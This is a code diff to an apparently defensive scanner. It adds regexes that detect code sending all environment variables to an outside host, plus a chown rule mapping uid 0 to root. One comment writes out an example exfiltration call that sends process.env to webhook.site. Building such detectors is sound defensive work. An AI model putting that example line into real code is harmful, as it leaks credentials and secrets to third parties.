@@ -903,9 +903,11 @@ const AUTH_USE = /(?:authorization|x-api-key|api[-_]?key|private-token|x-auth-to
  */
 const WHOLE_ENV = String.raw`(?:\bdict\(\s*os\.environ\s*\)|\bos\.environ\b(?!\s*[.[])|\bprocess\.env\b(?!\s*[.[])|\bENV\.to_h\b|\bSystem\.getenv\(\s*\)|\bos\.Environ\(\s*\)|\bgetenv\(\s*\)|\$_ENV\b(?!\s*\[)|\bDeno\.env\.toObject\(\s*\))`;
 const ENV_SENT = new RegExp(String.raw`\b(?:fetch|axios(?:\.post|\.put)?|requests\.(?:post|put)|httpx\.(?:post|put)|http\.(?:post|put|request)|got\.post|HTTParty\.post|PostAsync|PutAsync|urlopen|Invoke-RestMethod|\.post|\.put)\s*\(?[^;\n]{0,300}?["'\x60](https?:\/\/[^"'\x60\s/]+)[^;\n]{0,300}?${WHOLE_ENV}`);
+// cls-holes15: Node's request given an options object (https.request({ host: 'webhook.site', … }).end(JSON.stringify(process.env))).
+const ENV_SENT_OPTS = new RegExp(String.raw`(?:\b(?:https?|http2)|require\(\s*["'](?:node:)?https?["']\s*\))\.request\(\s*\{[^}]{0,300}?\bhost(?:name)?\s*:\s*["'\x60]([^"'\x60\s/]+)[^;\n]{0,400}?${WHOLE_ENV}`);
 function environmentSent(code: string): Finding[] {
   if (!/environ|process\.env|ENV|getenv|Environ|Deno\.env/.test(code)) return [];
-  const m = ENV_SENT.exec(code);
+  const m = ENV_SENT.exec(code) ?? ENV_SENT_OPTS.exec(code);
   if (!m) return [];
   const host = (m[1] as string).replace(/^https?:\/\//, '');
   const local = /^(?:localhost|127\.|\[::1\])|\.(?:internal|corp|lan|intra|private)(?::\d+)?$/.test(host);
@@ -1371,7 +1373,8 @@ function permissionCalls(code: string, ctx: Ctx): Finding[] {
     const mode = /\b0o?([0-7]{3,4})\b/.exec(args)?.[1];
     const recursive = /_r$/i.test(name) ? '-R ' : '';
     if (name.startsWith('chmod') && mode) out.push(...ctx.inner(`chmod ${recursive}${mode} '${path}'`));
-    else if (name.includes('chown')) out.push(...ctx.inner(`chown ${recursive}1000:1000 '${path}'`));
+    // cls-holes15: uid/gid 0 given (os.chown(p, 0, 0), File.chown(0, 0, p)) restores root as the owner.
+    else if (name.includes('chown')) out.push(...ctx.inner(`chown ${recursive}${/(?:^|,)\s*0\s*,\s*0\s*(?:,|$)/.test(args) ? 'root:root' : '1000:1000'} '${path}'`));
     if (out.length >= 4) break;
   }
   return out;
